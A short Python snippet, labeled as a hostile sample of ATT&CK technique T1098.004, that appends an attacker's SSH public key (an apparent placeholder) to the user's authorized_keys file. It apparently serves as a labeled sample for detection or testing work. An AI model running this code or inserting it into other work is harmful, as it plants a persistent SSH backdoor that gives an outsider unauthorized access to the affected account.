# hostile: attacker key added to authorized_keys (T1098.004)
import os

ssh = os.path.expanduser("~/.ssh")
os.makedirs(ssh, exist_ok=True)
with open(os.path.join(ssh, "authorized_keys"), "a") as f:
    f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyForTesting attacker@evil\n")
